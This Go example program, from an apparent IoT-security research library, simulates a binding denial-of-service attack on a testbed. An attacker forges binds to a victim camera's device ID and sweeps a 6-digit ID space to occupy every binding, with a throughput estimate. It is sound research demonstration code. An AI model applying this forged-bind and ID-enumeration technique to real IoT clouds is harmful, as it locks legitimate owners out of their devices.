@@ -1,0 +1,136 @@
+// Bindingdos demonstrates attack A2 (binding denial-of-service) two ways:
+//
+//  1. A targeted occupation: against the OZWI profile (device #6), the
+//     attacker binds the victim's camera to their own account before the
+//     victim finishes unboxing it; the victim's setup then fails.
+//  2. The scalable variant the paper warns about (Section V-C): against a
+//     fleet whose device IDs are 6-digit numbers, the attacker enumerates
+//     the ID space and occupies every binding in one sweep.
+package main
+
+import (
+	"fmt"
+	"os"
+
+	iotbind "github.com/iotbind/iotbind"
+)
+
+func main() {
+	if err := run(); err != nil {
+		fmt.Fprintln(os.Stderr, "bindingdos:", err)
+		os.Exit(1)
+	}
+}
+
+func run() error {
+	if err := targeted(); err != nil {
+		return err
+	}
+	fmt.Println()
+	return scalable()
+}
+
+func targeted() error {
+	profile, ok := iotbind.ByVendor("OZWI")
+	if !ok {
+		return fmt.Errorf("no OZWI profile")
+	}
+	fmt.Printf("— Targeted occupation against %s (%s) —\n", profile.Vendor, profile.DeviceType)
+
+	gen, err := profile.IDs.Generator()
+	if err != nil {
+		return err
+	}
+	victimID, err := gen.Generate(4211)
+	if err != nil {
+		return err
+	}
+	tb, err := iotbind.NewTestbed(profile.Design, iotbind.WithDeviceID(victimID))
+	if err != nil {
+		return err
+	}
+	deviceID := tb.DeviceID()
+	fmt.Printf("Victim's device ID (7 digits, printed on the box): %s\n", deviceID)
+
+	// The victim has not set the camera up yet; the attacker binds first.
+	if _, err := tb.Attacker().ForgeBind(deviceID); err != nil {
+		return fmt.Errorf("occupation bind: %w", err)
+	}
+	st, err := tb.Shadow()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Before the victim unboxes: shadow=%v bound=%s\n", st.State, st.BoundUser)
+
+	// The victim now tries a normal setup.
+	setupErr := tb.SetupVictim()
+	fmt.Printf("Victim's setup attempt: %v\n", setupErr)
+	fmt.Printf("Victim has control: %v  -> attack A2 %s\n",
+		tb.VictimHasControl(), outcomeWord(setupErr != nil && !tb.VictimHasControl()))
+	return nil
+}
+
+func scalable() error {
+	fmt.Println("— Scalable occupation across an ID space (Section V-C) —")
+
+	design := iotbind.DesignSpec{
+		Name:                   "fleet-vendor",
+		DeviceAuth:             iotbind.AuthDevID,
+		Binding:                iotbind.BindACLApp,
+		UnbindForms:            []iotbind.UnbindForm{iotbind.UnbindDevIDUserToken},
+		CheckBoundUserOnBind:   true,
+		CheckBoundUserOnUnbind: true,
+	}
+	gen, err := iotbind.NewShortDigitsGenerator(6)
+	if err != nil {
+		return err
+	}
+
+	// A fleet of 25 shipped devices scattered in the first 1500 IDs.
+	registry := iotbind.NewRegistry()
+	for i := 0; i < 25; i++ {
+		id, err := gen.Generate(uint64(37 + i*61))
+		if err != nil {
+			return err
+		}
+		if err := registry.Add(iotbind.DeviceRecord{ID: id, FactorySecret: "s" + id, Model: "cam"}); err != nil {
+			return err
+		}
+	}
+	cloud, err := iotbind.NewCloud(design, registry)
+	if err != nil {
+		return err
+	}
+
+	atk, err := iotbind.NewAttacker("attacker@example.com", "pw", design,
+		iotbind.StampSource(cloud, "198.51.100.66"))
+	if err != nil {
+		return err
+	}
+	if err := atk.Prepare(); err != nil {
+		return err
+	}
+
+	result, err := atk.SweepBindDoS(gen, 0, 1600)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("Enumerated %d candidate IDs: %d real devices found, %d bindings occupied\n",
+		result.Tried, len(result.Existing), len(result.Occupied))
+
+	est, err := iotbind.EstimateEnumeration(gen, 3000)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("At 3000 forged requests/s the full 6-digit space falls in %v (within an hour: %v)\n",
+		est.FullSweep, est.WithinHour)
+	fmt.Println("Every future owner of an occupied device is locked out of binding it.")
+	return nil
+}
+
+func outcomeWord(success bool) string {
+	if success {
+		return "SUCCEEDS"
+	}
+	return "fails"
+}
